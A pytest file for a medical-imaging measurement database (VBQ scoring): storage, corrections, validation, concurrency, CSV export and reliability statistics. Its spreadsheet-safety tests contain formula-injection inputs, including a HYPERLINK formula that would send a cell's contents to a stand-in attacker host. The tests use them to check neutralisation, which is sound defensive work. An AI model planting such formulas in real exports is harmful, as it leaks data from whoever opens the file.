@@ -1,0 +1,772 @@
+"""Tests of vbq.measurements (the measurement database) and vbq.export (spreadsheet-safe cells).
+
+The merge is checked against the spreadsheet path (`vbq.prepare_cohort` on the demo cohort as
+shipped),
+the VBQ of a reading against `vbq.compute_vbq` and a hand median, and the reliability against
+`vbq.stats.icc` / `bland_altman` called on the same numbers by hand.
+"""
+
+from __future__ import annotations
+
+import dataclasses
+import datetime as dt
+import io
+import multiprocessing
+import sqlite3
+import statistics
+import threading
+from pathlib import Path
+
+import numpy as np
+import pandas as pd
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+import vbq
+from vbq.errors import InputError
+from vbq.export import neutralise_frame, safe_cell, safe_csv
+from vbq.measurements import (
+    HISTORY_COLUMNS,
+    KEY_COLUMNS,
+    MEASUREMENT_COLUMNS,
+    SCHEMA_VERSION,
+    MeasurementStore,
+    ROIMeasurement,
+    inter_observer_vbq,
+    intra_observer_vbq,
+    merge_into_cohort,
+    open_store,
+    read_measurements,
+    reading_vbq,
+    reliability,
+    to_cohort_si,
+    validate_measurements,
+    vbq_wide,
+)
+
+SI_COLS = ["si_l1", "si_l2", "si_l3", "si_l4"]
+LEVELS = ("L1", "L2", "L3", "L4")
+
+
+def reading(pid: str, observer: str = "AB", session: int = 1, sis=(300.0, 320.0, 310.0, 330.0),
+            csf: float = 110.0, *, collapsed=(), csf_level=None, **extra) -> list[ROIMeasurement]:
+    """One patient's five ROIs."""
+    rois = [ROIMeasurement(pid, observer, session, lv, float(si), excluded=lv in collapsed,
+                           **extra) for lv, si in zip(LEVELS, sis, strict=True)]
+    rois.append(ROIMeasurement(pid, observer, session, "CSF", float(csf), csf_level=csf_level,
+                               **extra))
+    return rois
+
+
+@pytest.fixture
+def store(tmp_path):
+    s = MeasurementStore(tmp_path / "m.sqlite")
+    yield s
+    s.close()
+
+
+FULL = dict(slice_index=7, centre_row_px=120.25, centre_col_px=88.0, centre_row_mm=84.175,
+            centre_col_mm=61.6, radius_mm=6.0, si_median=301.5, si_sd=22.125, pixel_count=231,
+            series_fingerprint="3f" * 32, field_strength_t=1.5, tr_ms=520.0, te_ms=12.0)
+
+
+# --------------------------------------------------------------------------------------------
+# schema, save, load, reopen
+
+
+def test_schema_created_on_first_use_with_version(tmp_path):
+    path = tmp_path / "sub" / "m.sqlite"
+    path.parent.mkdir()
+    with open_store(path) as s:
+        assert s.schema_version == SCHEMA_VERSION
+        assert s.load().columns.tolist() == list(MEASUREMENT_COLUMNS)
+        assert s.history().columns.tolist() == list(HISTORY_COLUMNS)
+    con = sqlite3.connect(path)
+    tables = {r[0] for r in con.execute("select name from sqlite_master where type='table'")}
+    assert {"vbq_meta", "vbq_roi_measurements", "vbq_roi_history"} <= tables
+    assert con.execute("pragma journal_mode").fetchone()[0] == "wal"
+    pk = [r[1] for r in sorted(con.execute("pragma table_info(vbq_roi_measurements)"),
+                               key=lambda r: r[5]) if r[5]]
+    assert pk == list(KEY_COLUMNS)
+    con.close()
+
+
+def test_newer_schema_is_refused(tmp_path):
+    path = tmp_path / "m.sqlite"
+    MeasurementStore(path).close()
+    con = sqlite3.connect(path)
+    con.execute("update vbq_meta set value = '99' where key = 'schema_version'")
+    con.commit()
+    con.close()
+    with pytest.raises(InputError, match="newer than this software"):
+        MeasurementStore(path)
+
+
+def test_save_load_every_field_and_survive_reopen(tmp_path):
+    path = tmp_path / "m.sqlite"
+    rois = reading("VBQ-001", csf_level="L2", **FULL)
+    with MeasurementStore(f"sqlite:///{path}") as s:
+        res = s.save(rois)
+        assert (res.inserted, res.corrected, res.unchanged) == (5, 0, 0)
+        first = s.load()
+    # a new store on the same file, as after an app restart
+    with MeasurementStore(path) as s:
+        again = s.load()
+    pd.testing.assert_frame_equal(first, again)
+    assert again["level"].tolist() == ["L1", "L2", "L3", "L4", "CSF"]
+    assert again["si_mean"].tolist() == [300.0, 320.0, 310.0, 330.0, 110.0]
+    assert again["csf_level"].tolist() == [None, None, None, None, "L2"]
+    row = again.iloc[0]
+    for name, value in FULL.items():
+        assert row[name] == value, name
+    assert row["software_version"] == vbq.__version__
+    assert str(again["measured_at"].dtype) == "datetime64[us, UTC]"
+    assert (pd.Timestamp.now(tz="UTC") - row["measured_at"]) < pd.Timedelta(minutes=5)
+
+
+def test_store_accepts_an_engine_and_a_connection_like_object(tmp_path):
+    import sqlalchemy as sa
+
+    engine = sa.create_engine(f"sqlite:///{tmp_path / 'm.sqlite'}")
+
+    class Connection:  # what st.connection("measurements", type="sql") exposes
+        def __init__(self, engine):
+            self.engine = engine
+
+    MeasurementStore(engine).save(reading("VBQ-001"))
+    s = MeasurementStore(Connection(engine))
+    assert len(s.load()) == 5
+    s.close()  # not ours: the engine still works
+    with engine.connect() as conn:
+        assert conn.execute(sa.text("select count(*) from vbq_roi_measurements")).scalar() == 5
+
+
+def test_an_in_memory_store_is_the_same_database_in_every_thread():
+    s = MeasurementStore("sqlite://")
+    t = threading.Thread(target=lambda: s.save(reading("VBQ-001")))
+    t.start()
+    t.join()
+    assert len(s.load()) == 5
+
+
+def test_bad_binds_are_named_and_a_password_never_shown(tmp_path):
+    assert MeasurementStore("sqlite://").url == "sqlite://"
+    with pytest.raises(InputError, match="expected an SQLAlchemy URL"):
+        MeasurementStore(42)
+    # no driver installed, or no server listening: either way a message, without the password
+    with pytest.raises(InputError) as err:
+        MeasurementStore("postgresql+psycopg://vbq:s3cret@127.0.0.1:9/vbq")
+    assert "s3cret" not in str(err.value)
+    (tmp_path / "dir.sqlite").mkdir()
+    with pytest.raises(InputError, match="cannot open it"):
+        MeasurementStore(tmp_path / "dir.sqlite")
+
+
+def test_the_default_database_lives_under_data_and_is_git_ignored():
+    from vbq.measurements import DEFAULT_PATH, default_url
+
+    root = Path(vbq.__file__).resolve().parents[1]
+    assert DEFAULT_PATH == root / "data" / "measurements.sqlite"
+    assert default_url() == f"sqlite:///{DEFAULT_PATH}"
+    ignore = (root / ".gitignore").read_text().splitlines()
+    assert "data/*.sqlite*" in ignore
+
+
+def test_load_filters_and_readings_summary(store):
+    store.save(reading("VBQ-001") + reading("VBQ-001", session=2) + reading("VBQ-002", "CD"))
+    assert len(store.load(patient_id="VBQ-001")) == 10
+    assert len(store.load(observer=["CD"])) == 5
+    assert len(store.load(session=2)) == 5
+    r = store.readings()
+    assert r[["patient_id", "observer", "session", "n_rois"]].values.tolist() == [
+        ["VBQ-001", "AB", 1, 5], ["VBQ-001", "AB", 2, 5], ["VBQ-002", "CD", 1, 5]]
+
+
+# --------------------------------------------------------------------------------------------
+# atomicity, corrections, deletion
+
+
+def test_a_reading_with_one_bad_roi_saves_nothing(store):
+    rois = reading("VBQ-001")
+    rois[2] = dataclasses.replace(rois[2], si_mean=-5.0)
+    with pytest.raises(InputError) as err:
+        store.save(rois)
+    assert [(p.row, p.column) for p in err.value.problems] == [(3, "si_mean")]
+    assert store.load().empty
+
+
+def test_a_failing_transaction_leaves_nothing_behind(store, monkeypatch):
+    # the database refuses the insert midway: the correction and the history row roll back too
+    store.save(reading("VBQ-001"))
+    import vbq.measurements as m
+
+    real_insert = m.sa.insert
+
+    def failing_insert(table):
+        if table is m._rois:
+            raise RuntimeError("disk full")
+        return real_insert(table)
+
+    monkeypatch.setattr(m.sa, "insert", failing_insert)
+    with pytest.raises(RuntimeError):
+        store.save(reading("VBQ-001", sis=(1.0, 2.0, 3.0, 4.0)) + reading("VBQ-002"))
+    monkeypatch.undo()
+    assert store.load()["si_mean"].tolist() == [300.0, 320.0, 310.0, 330.0, 110.0]
+    assert store.history().empty
+
+
+def test_a_correction_keeps_the_old_value_with_when_and_why(store):
+    store.save(reading("VBQ-001"))
+    before = store.load()
+    res = store.save(reading("VBQ-001", sis=(300.0, 325.0, 310.0, 330.0)), reason="ROI moved")
+    assert (res.inserted, res.corrected, res.unchanged) == (0, 1, 4)
+    now = store.load()
+    assert now.loc[now["level"] == "L2", "si_mean"].item() == 325.0
+    hist = store.history()
+    assert len(hist) == 1
+    h = hist.iloc[0]
+    assert (h["change"], h["reason"], h["level"], h["si_mean"]) == (
+        "corrected", "ROI moved", "L2", 320.0)
+    old = before[before["level"] == "L2"].iloc[0]
+    assert h["measured_at"] == old["measured_at"]
+    assert h["changed_at"] >= h["measured_at"]
+    # a correction without a reason is still recorded
+    store.save(reading("VBQ-001", sis=(300.0, 326.0, 310.0, 330.0)))
+    assert store.history()["reason"].tolist() == ["ROI moved", "re-saved"]
+
+
+def test_an_identical_resave_changes_nothing(store):
+    store.save(reading("VBQ-001"))
+    first = store.load()
+    res = store.save(reading("VBQ-001"))
+    assert (res.inserted, res.corrected, res.unchanged) == (0, 0, 5)
+    pd.testing.assert_frame_equal(store.load(), first)  # timestamps kept
+    assert store.history().empty
+
+
+def test_delete_only_on_purpose_and_recorded(store):
+    store.save(reading("VBQ-001") + reading("VBQ-001", session=2))
+    with pytest.raises(InputError, match="reason"):
+        store.delete("VBQ-001", observer="AB", session=1, reason=" ")
+    with pytest.raises(TypeError):
+        store.delete("VBQ-001")  # observer, session and reason are required
+    assert store.delete("VBQ-001", observer="AB", session=2, level="CSF", reason="wrong slice") == 1
+    assert store.delete("VBQ-001", observer="AB", session=1, reason="duplicate patient") == 5
+    assert store.delete("VBQ-001", observer="AB", session=1, reason="again") == 0
+    assert store.load()["level"].tolist() == ["L1", "L2", "L3", "L4"]
+    hist = store.history()
+    assert hist["change"].tolist() == ["deleted"] * 6
+    assert hist["reason"].tolist() == ["wrong slice"] + ["duplicate patient"] * 5
+    assert hist["si_mean"].tolist()[:2] == [110.0, 300.0]
+
+
+# --------------------------------------------------------------------------------------------
+# validation
+
+
+def test_patient_ids_must_be_pseudonymous_codes(store):
+    ok = ["VBQ-001", "p17", "A.B_3"]
+    bad = ["Smith, John", "John Smith", "", "   ", "1.2.840.113619.2.55", "1956-03-12",
+           "12.03.1956", "=HYPERLINK(1)", "-001", "x" * 65]
+    for pid in ok:
+        assert validate_measurements(reading(pid))[1].ok, pid
+    for pid in bad:
+        table, report = validate_measurements(reading(pid))
+        assert not report.ok, pid
+        assert {p.column for p in report.errors} == {"patient_id"}, pid
+    # surrounding spaces are stripped
+    table, report = validate_measurements(reading("  VBQ-002 "))
+    assert report.ok and set(table["patient_id"]) == {"VBQ-002"}
+
+
+def test_every_field_is_validated_by_row_and_column():
+    rows = [dict(patient_id=f"VBQ-{i:03d}", observer="AB", session=1, level="L1", si_mean=300.0)
+            for i in range(12)]
+    bad = {1: ("session", 0), 2: ("level", "L5"), 3: ("si_mean", "abc"), 4: ("radius_mm", 0.0),
+           5: ("pixel_count", 2.5), 6: ("series_fingerprint", "1.2.840.10008.1.2"),
+           7: ("tr_ms", float("inf")), 8: ("excluded", "maybe"), 9: ("csf_level", "L3"),
+           10: ("measured_at", 5), 11: ("software_version", "=1+1")}
+    for i, (col, value) in bad.items():
+        rows[i] = {**rows[i], col: value}
+    _, report = validate_measurements(pd.DataFrame(rows))
+    got = sorted((p.row, p.column) for p in report.errors)
+    assert got == sorted((i + 1, col) for i, (col, _) in bad.items())
+    for text in ("now", "1/2/2026", "yesterday"):
+        _, rep = validate_measurements([{**rows[0], "measured_at": text}])
+        assert [p.column for p in rep.errors] == ["measured_at"], text
+    for text in ("2026-01-31T14:05:00Z", "2026-01-31 14:05:00+01:00", "2026-01-31"):
+        table, rep = validate_measurements([{**rows[0], "measured_at": text}])
+        assert rep.ok, text
+    assert str(table.loc[0, "measured_at"]) == "2026-01-31 00:00:00+00:00"
+    fp = next(p for p in report.errors if p.column == "series_fingerprint")
+    assert "never the Series Instance UID" in fp.message
+
+
+def test_cross_row_rules():
+    rois = reading("VBQ-001", csf=0.0)
+    rois[0] = dataclasses.replace(rois[0], csf_level="L3")
+    rois.append(dataclasses.replace(rois[1], si_mean=1.0))  # the same key twice
+    rois.append(ROIMeasurement("VBQ-002", "AB", 1, "CSF", 100.0, excluded=True))
+    _, report = validate_measurements(rois)
+    msgs = {(p.row, p.column): p.message for p in report.errors}
+    assert "CSF row only" in msgs[(1, "csf_level")]
+    assert "above 0" in msgs[(5, "si_mean")]
+    assert "same patient_id, observer, session and level as row 2" in msgs[(6, "level")]
+    assert "not the CSF" in msgs[(7, "excluded")]
+    # a CSF row with no level recorded is at L3, as in the cohort file
+    table, report = validate_measurements(reading("VBQ-003"))
+    assert report.ok and table.loc[4, "csf_level"] == "L3"
+
+
+# --------------------------------------------------------------------------------------------
+# concurrent writers
+
+
+def _writer(path: str, worker: int, n_patients: int, n_shared: int) -> None:
+    s = MeasurementStore(path)
+    for k in range(max(n_patients, n_shared)):
+        if k < n_patients:
+            s.save(reading(f"W{worker}-P{k}", sis=(300.0 + worker, 320.0 + k, 310.0, 330.0)))
+        if k < n_shared:  # everyone corrects the same ROI, each time to a different value
+            s.save([ROIMeasurement("SHARED", "AB", 1, "L1", 1000.0 * worker + k)],
+                   reason=f"worker {worker} save {k}")
+    s.close()
+
+
+def _check_nothing_lost(path, workers: int, n_patients: int, n_shared: int) -> None:
+    s = MeasurementStore(path)
+    table = s.load()
+    assert len(table) == workers * n_patients * 5 + 1
+    for w in range(workers):
+        for k in range(n_patients):
+            got = table.loc[table["patient_id"] == f"W{w}-P{k}", "si_mean"].tolist()
+            assert got == [300.0 + w, 320.0 + k, 310.0, 330.0, 110.0]
+    # every value ever saved to the shared ROI is either current or in the history, once
+    saved = {1000.0 * w + k for w in range(workers) for k in range(n_shared)}
+    current = table.loc[table["patient_id"] == "SHARED", "si_mean"].tolist()
+    past = s.history(patient_id="SHARED")["si_mean"].tolist()
+    assert len(past) == len(saved) - 1
+    assert sorted(current + past) == sorted(saved)
+    s.close()
+
+
+def test_concurrent_threads_lose_nothing(tmp_path):
+    path = str(tmp_path / "m.sqlite")
+    MeasurementStore(path).close()
+    workers, n_patients, n_shared = 6, 8, 5
+    errors: list[BaseException] = []
+
+    def run(w):
+        try:
+            _writer(path, w, n_patients, n_shared)
+        except BaseException as exc:  # surfaced below
+            errors.append(exc)
+
+    threads = [threading.Thread(target=run, args=(w,)) for w in range(workers)]
+    for t in threads:
+        t.start()
+    for t in threads:
+        t.join()
+    assert not errors, errors
+    _check_nothing_lost(path, workers, n_patients, n_shared)
+
+
+def test_concurrent_processes_lose_nothing(tmp_path):
+    path = str(tmp_path / "m.sqlite")  # no store opened first: the schema is created concurrently
+    workers, n_patients, n_shared = 4, 6, 5
+    # fork where the platform has it (fast; each child opens its own connections), else spawn
+    ctx = multiprocessing.get_context(
+        "fork" if "fork" in multiprocessing.get_all_start_methods() else "spawn")
+    procs = [ctx.Process(target=_writer, args=(path, w, n_patients, n_shared))
+             for w in range(workers)]
+    for p in procs:
+        p.start()
+    for p in procs:
+        p.join(timeout=120)
+    assert [p.exitcode for p in procs] == [0] * workers
+    _check_nothing_lost(path, workers, n_patients, n_shared)
+
+
+# --------------------------------------------------------------------------------------------
+# CSV
+
+
+def test_csv_round_trip_is_exact(store, tmp_path):
+    store.save(reading("VBQ-001", csf_level="L4", collapsed=("L2",), **FULL))
+    store.save(reading("VBQ-002", "CD", 2, sis=(0.1 + 0.2, 1 / 3, 1e-7, 123456.789)))
+    store.save(reading("VBQ-001", sis=(301.0, 320.0, 310.0, 330.0)), reason="moved")
+    text = store.export_csv()
+    target = tmp_path / "export.csv"
+    store.export_csv(target)
+    assert target.read_text() == text
+    other = MeasurementStore("sqlite://")
+    res = other.import_csv(target)
+    assert (res.inserted, res.corrected, res.unchanged) == (10, 0, 0)
+    pd.testing.assert_frame_equal(other.load(), store.load())
+    assert other.export_csv() == text
+    # importing the same file again changes nothing
+    res = other.import_csv(text.encode())
+    assert (res.inserted, res.corrected, res.unchanged) == (0, 0, 10)
+    assert other.history().empty
+
+
+_code = st.builds(lambda a, b: a + b, st.sampled_from("AbZ"),
+                  st.text("aZ09._-", max_size=12))
+_opt = lambda lo, hi: st.none() | st.floats(lo, hi, allow_nan=False)  # noqa: E731
+
+
+@st.composite
+def _rois(draw):
+    keys = draw(st.lists(st.tuples(_code, _code, st.integers(1, 5), st.sampled_from(
+        ["L1", "L2", "L3", "L4", "CSF"])), min_size=1, max_size=8, unique=True))
+    out = []
+    for pid, obs, ses, lv in keys:
+        out.append(ROIMeasurement(
+            pid, obs, ses, lv, draw(st.floats(1e-3, 1e6)),
+            csf_level=draw(st.sampled_from(["T12", "L2", "L3", "L5"])) if lv == "CSF" else None,
+            slice_index=draw(st.none() | st.integers(0, 500)),
+            centre_row_px=draw(_opt(0, 1024)), centre_col_mm=draw(_opt(-10, 400)),
+            radius_mm=draw(st.none() | st.floats(0.01, 30)), si_median=draw(_opt(-1e6, 1e6)),
+            si_sd=draw(_opt(0, 1e6)), pixel_count=draw(st.none() | st.integers(1, 10**6)),
+            excluded=lv != "CSF" and draw(st.booleans()),
+            series_fingerprint=draw(st.none() | st.binary(min_size=8, max_size=32).map(
+                bytes.hex)),
+            te_ms=draw(st.none() | st.floats(0.1, 100)),
+            measured_at=draw(st.datetimes(dt.datetime(2000, 1, 1), dt.datetime(2100, 1, 1),
+                                          timezones=st.just(dt.UTC))),
+        ))
+    return out
+
+
+@settings(max_examples=25, deadline=None)
+@given(_rois())
+def test_csv_round_trip_property(rois):
+    a, b = MeasurementStore("sqlite://"), MeasurementStore("sqlite://")
+    a.save(rois)
+    text = a.export_csv()
+    b.import_csv(text)
+    pd.testing.assert_frame_equal(b.load(), a.load())
+    assert b.export_csv() == text
+
+
+def test_csv_import_reports_problems_by_row_and_column(store):
+    store.save(reading("VBQ-001"))
+    lines = store.export_csv().splitlines()
+    header = lines[0].split(",")
+    col = {name: header.index(name) for name in header}
+
+    def edit(line, name, value):
+        cells = line.split(",")
+        cells[col[name]] = value
+        return ",".join(cells)
+
+    lines[2] = edit(lines[2], "si_mean", "3OO")               # row 3: L2
+    lines[4] = edit(lines[4], "patient_id", "Smith John")     # row 5: L4
+    lines[5] = edit(lines[5], "csf_level", "L9")              # row 6: CSF
+    text = "\n".join(lines[:3] + [""] + lines[3:]) + "\n"     # an empty row 4
+    fresh = MeasurementStore("sqlite://")
+    with pytest.raises(InputError) as err:
+        fresh.import_csv(text.encode(), reason="x")
+    got = [(p.row, p.column) for p in err.value.problems]
+    assert got == [(3, "si_mean"), (6, "patient_id"), (7, "csf_level")]
+    assert fresh.load().empty  # nothing saved
+    _, report = read_measurements(text)
+    assert [(p.severity, p.row) for p in report.warnings] == [("warning", 4)]
+    assert sorted(report.to_frame()["row"]) == [3, 4, 6, 7]
+
+
+def test_csv_import_file_level_problems():
+    _, report = read_measurements(b"")
+    assert not report.ok and "empty" in report.errors[0].message
+    _, report = read_measurements(b"Patient_ID,observer,session,level,notes\nA1,AB,1,L1,x\n")
+    msgs = [(p.severity, p.column, p.message) for p in report.problems]
+    assert ("warning", "notes", "column not recognised and ignored") in msgs
+    assert ("error", None, "missing required column 'si_mean'") in msgs
+    with pytest.raises(InputError, match="not UTF-8"):
+        read_measurements(b"\xff\xfe\x00a")
+    # headers are matched case-insensitively, blank optional cells are fine
+    table, report = read_measurements("PATIENT_ID,Observer,session,level,si_mean\nA1,AB,1,CSF,99.5\n")
+    assert report.ok and table.loc[0, "csf_level"] == "L3" and not table.loc[0, "excluded"]
+
+
+# --------------------------------------------------------------------------------------------
+# spreadsheet safety
+
+
+def test_safe_cell_neutralises_formula_triggers_only_in_text():
+    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1", "\uff1d1+1"):
+        assert safe_cell(text) == "'" + text
+    for value in ("VBQ-001", "", "a=b", "'quoted", -1.5, 0, True, None, np.nan,
+                  pd.Timestamp("2026-01-01")):
+        out = safe_cell(value)
+        assert out is value or (isinstance(value, float) and np.isnan(out))
+
+
+def test_neutralise_frame_and_safe_csv():
+    frame = pd.DataFrame({
+        "patient_id": ['=HYPERLINK("http://evil.example/?"&A1,"x")', "DEMO-001", None],
+        "n": [-1, 2, 3],
+        "x": [-1.5, 2.0, np.nan],
+        "=bad header": ["@cmd", "ok", "+1"],
+    })
+    out = neutralise_frame(frame)
+    assert out["patient_id"].tolist()[:2] == ["'" + frame.loc[0, "patient_id"], "DEMO-001"]
+    assert pd.isna(out["patient_id"].tolist()[2])
+    assert out["patient_id"].dtype == frame["patient_id"].dtype
+    assert out["n"].tolist() == [-1, 2, 3] and out["n"].dtype == frame["n"].dtype
+    assert out["'=bad header"].tolist() == ["'@cmd", "ok", "'+1"]
+    assert frame.loc[0, "patient_id"].startswith("=")  # the input is untouched
+    text = safe_csv(frame)
+    cells = [c for line in text.splitlines() for c in line.split(",")]
+    assert not any(c.lstrip('"').startswith(("=", "+", "@")) for c in cells)
+    assert "-1.5" in cells  # numbers are not changed
+
+
+def test_history_export_neutralises_user_text(store):
+    store.save(reading("VBQ-001"))
+    store.delete("VBQ-001", observer="AB", session=1, level="L1",
+                 reason='=HYPERLINK("http://evil.example","click")')
+    text = store.export_csv(table="history")
+    assert "\"'=HYPERLINK(" in text
+    assert ",=HYPERLINK" not in text and ',"=HYPERLINK' not in text
+    with pytest.raises(InputError, match="table"):
+        store.export_csv(table="patients")
+
+
+# --------------------------------------------------------------------------------------------
+# into the cohort: the spreadsheet path reproduced
+
+
+def _demo_measurements(cohort: pd.DataFrame, ids) -> list[ROIMeasurement]:
+    """The demo cohort's own SIs for `ids`, as if measured in the app."""
+    rois = []
+    for _, row in cohort[cohort["patient_id"].isin(ids)].iterrows():
+        collapsed = tuple(lv for lv in LEVELS if row[f"collapsed_{lv.lower()}"] == "yes")
+        rois += reading(row["patient_id"], sis=tuple(row[SI_COLS]), csf=row["si_csf"],
+                        collapsed=collapsed, csf_level=row["csf_level"])
+    return rois
+
+
+DEMO_IDS = ["DEMO-001", "DEMO-002", "DEMO-015", "DEMO-022", "DEMO-106", "DEMO-125", "DEMO-223"]
+
+
+def test_merge_reproduces_the_spreadsheet_vbq(store):
+    cohort, dxa = vbq.demo.load()
+    store.save(_demo_measurements(cohort, DEMO_IDS + ["NOT-IN-COHORT"]))
+    store.save(reading("NOT-IN-COHORT"))
+    # the cohort as a user would bring it when measuring in the app: those patients' SIs blank
+    blanked = cohort.copy()
+    sel = blanked["patient_id"].isin(DEMO_IDS)
+    blanked.loc[sel, [*SI_COLS, "si_csf"]] = np.nan
+    blanked.loc[sel, "csf_level"] = np.nan
+    blanked.loc[sel, [f"collapsed_l{i}" for i in range(1, 5)]] = "no"
+    merged = merge_into_cohort(blanked, store)
+    assert merged.measured == tuple(DEMO_IDS)
+    assert merged.not_in_cohort == ("NOT-IN-COHORT",)
+    assert len(merged.not_measured) == len(cohort) - len(DEMO_IDS)
+    assert merged.replaced == ()
+    expected_result = vbq.prepare_cohort(cohort, dxa)
+    got_result = vbq.prepare_cohort(merged.cohort, dxa)
+    expected, got = expected_result.table, got_result.table
+    pd.testing.assert_series_equal(got["vbq"], expected["vbq"])
+    assert got["patient_id"].tolist() == expected["patient_id"].tolist()
+    assert got_result.counts == expected_result.counts
+    pd.testing.assert_frame_equal(got_result.exclusions, expected_result.exclusions)
+    # and the merged VBQ is compute_vbq of the stored numbers, reading by reading
+    per = reading_vbq(store).set_index("patient_id")
+    for pid in DEMO_IDS:
+        assert got.loc[got["patient_id"] == pid, "vbq"].item() == per.loc[pid, "vbq"]
+    # DEMO-022 has a collapsed L2: the median of the other three (hand computation)
+    row = cohort[cohort["patient_id"] == "DEMO-022"].iloc[0]
+    assert row["collapsed_l2"] == "yes"
+    hand = statistics.median([row["si_l1"], row["si_l3"], row["si_l4"]]) / row["si_csf"]
+    assert per.loc["DEMO-022", "vbq"] == pytest.approx(hand, rel=1e-12)
+
+
+def test_merge_into_a_cohort_without_si_columns_and_the_report(store):
+    cohort, dxa = vbq.demo.load()
+    store.save(_demo_measurements(cohort, DEMO_IDS[:3]))
+    bare = cohort.drop(columns=[*SI_COLS, "si_csf", "csf_level"])
+    merged = merge_into_cohort(bare, store)
+    prepared = vbq.prepare_cohort(merged.cohort, dxa)
+    assert sorted(prepared.table["patient_id"]) == sorted(DEMO_IDS[:3])
+    log = prepared.exclusions
+    assert set(log.loc[log["patient_excluded"], "patient_id"]) == set(merged.not_measured)
+    frame = merged.to_frame()
+    assert frame.set_index("patient_id").loc["DEMO-001", "si_source"] == "measurements"
+    assert frame.set_index("patient_id").loc["DEMO-003", "si_source"] == "none"
+    assert "3 cohort patient(s) measured" in merged.summary()
+    # with the spreadsheet SIs present, the measured ones replace them where they differ
+    store.save(reading("DEMO-004"))
+    merged = merge_into_cohort(cohort, store)
+    assert merged.replaced == ("DEMO-004",)
+    assert frame.shape[1] == 4
+    # an ID differing only in case is not merged, and the report says so
+    store.save(reading("demo-005"))
+    merged = merge_into_cohort(cohort, store)
+    assert "demo-005" in merged.not_in_cohort
+    assert "demo-005 (DEMO-005)" in merged.notes[0]
+
+
+def test_the_schema_compiles_for_postgresql():
+    # no PostgreSQL server here: check that the DDL renders for the dialect the README documents
+    import sqlalchemy as sa
+    from sqlalchemy.dialects import postgresql
+
+    import vbq.measurements as m
+
+    ddl = "\n".join(str(sa.schema.CreateTable(t).compile(dialect=postgresql.dialect()))
+                    for t in (m._meta_table, m._rois, m._history))
+    assert "DOUBLE PRECISION" in ddl and "TIMESTAMP WITH TIME ZONE" in ddl
+    assert "PRIMARY KEY (patient_id, observer, session, level)" in ddl
+    assert "history_id SERIAL" in ddl
+
+
+def test_choosing_observer_and_session_or_their_mean(store):
+    store.save(reading("P1", "AB", 1, sis=(300.0, 300.0, 300.0, 300.0), csf=100.0))
+    store.save(reading("P1", "AB", 2, sis=(310.0, 310.0, 310.0, 310.0), csf=100.0,
+                       collapsed=("L4",)))
+    store.save(reading("P1", "CD", 1, sis=(320.0, 320.0, 320.0, 320.0), csf=110.0,
+                       csf_level="L2"))
+    with pytest.raises(InputError, match="more than one observer"):
+        to_cohort_si(store)
+    with pytest.raises(InputError, match="more than one session"):
+        to_cohort_si(store, observer="AB")
+    with pytest.raises(InputError, match="observer"):
+        to_cohort_si(store, observer="ZZ")
+    one = to_cohort_si(store, observer="AB", session=2)
+    assert one.loc[0, "si_l1"] == 310.0 and one.loc[0, "collapsed_l4"]
+    assert one.loc[0, "n_readings"] == 1
+    mean = to_cohort_si(store, observer="AB", combine="mean")
+    assert mean.loc[0, "si_l1"] == 305.0 and mean.loc[0, "si_csf"] == 100.0
+    assert mean.loc[0, "collapsed_l4"] and not mean.loc[0, "collapsed_l1"]
+    assert mean.loc[0, "n_readings"] == 2
+    every = to_cohort_si(store, combine="mean")
+    assert every.loc[0, "si_l1"] == pytest.approx((300 + 310 + 320) / 3)
+    assert every.loc[0, "csf_level"] == "L3"  # two readings at L3, one at L2
+    cohort = pd.DataFrame({"patient_id": ["P1"], "age": [60], "sex": ["F"]})
+    merged = merge_into_cohort(cohort, store, combine="mean")
+    assert merged.notes and "different levels" in merged.notes[0]
+    with pytest.raises(InputError, match="combine"):
+        to_cohort_si(store, combine="median")
+    # a table that is not a typed measurement table is refused, not misread
+    raw = pd.read_csv(io.StringIO(store.export_csv()), dtype=str)
+    with pytest.raises(InputError, match="dtypes"):
+        to_cohort_si(raw, observer="AB", session=1)
+    typed = store.load()
+    with pytest.raises(InputError, match="duplicated reading"):
+        reading_vbq(pd.concat([typed, typed.head(1)]))
+    table, _ = read_measurements(store.export_csv())
+    pd.testing.assert_frame_equal(to_cohort_si(table, observer="AB", session=1),
+                                  to_cohort_si(store, observer="AB", session=1))
+
+
+# --------------------------------------------------------------------------------------------
+# reliability from the database
+
+
+def _reliability_store(store, n=12, seed=1):
+    rng = np.random.default_rng(seed)
+    for i in range(n):
+        true = rng.normal(320, 40, 4)
+        for observer, session, noise in (("AB", 1, 0), ("AB", 2, 6), ("CD", 1, 9)):
+            sis = tuple(float(v) for v in true + rng.normal(0, noise + 1, 4))
+            store.save(reading(f"P{i:02d}", observer, session, sis,
+                               csf=float(110 + rng.normal(0, 3))))
+    # one patient read only once: an incomplete target
+    store.save(reading("P99", "AB", 1))
+    store.save(reading("P98", "AB", 2, collapsed=("L1", "L2")))  # too few levels: no VBQ
+
+
+def test_reading_vbq_matches_compute_vbq(store):
+    _reliability_store(store)
+    per = reading_vbq(store)
+    table = store.load()
+    for (pid, obs, ses), grp in table.groupby(["patient_id", "observer", "session"]):
+        g = grp.set_index("level")
+        res = vbq.compute_vbq(g.loc[list(LEVELS), "si_mean"].to_numpy()[None, :],
+                              np.array([g.loc["CSF", "si_mean"]]),
+                              g.loc[list(LEVELS), "excluded"].to_numpy()[None, :])
+        row = per[(per["patient_id"] == pid) & (per["observer"] == obs) & (per["session"] == ses)]
+        np.testing.assert_equal(row["vbq"].item(), res.vbq[0])
+    p98 = per[per["patient_id"] == "P98"].iloc[0]
+    assert np.isnan(p98["vbq"]) and "only 2 evaluable" in p98["reason"]
+
+
+def test_reliability_from_the_database_matches_icc_by_hand(store):
+    _reliability_store(store)
+    per = reading_vbq(store)
+    intra = intra_observer_vbq(store, "AB")
+    assert intra.columns.tolist() == ["patient_id", "AB/1", "AB/2"]
+    # by hand: the same numbers straight from reading_vbq, through to_long and icc
+    hand = per[per["observer"] == "AB"].pivot(index="patient_id", columns="session",
+                                               values="vbq")
+    hand.columns = ["AB/1", "AB/2"]
+    hand = hand.reset_index()
+    pd.testing.assert_frame_equal(intra, hand, check_names=False)
+    long = vbq.stats.to_long(hand, "patient_id", ["AB/1", "AB/2"])
+    expected = vbq.stats.icc(long, "patient_id", "rater", "rating")
+    res = reliability(intra)
+    assert res.icc.to_frame().equals(expected.to_frame())
+    assert res.icc.n == 12 and set(res.icc.excluded_targets) == {"P98", "P99"}
+    ba = vbq.stats.bland_altman(hand["AB/1"], hand["AB/2"])
+    assert res.bland_altman.bias == ba.bias and res.bland_altman.n == 12
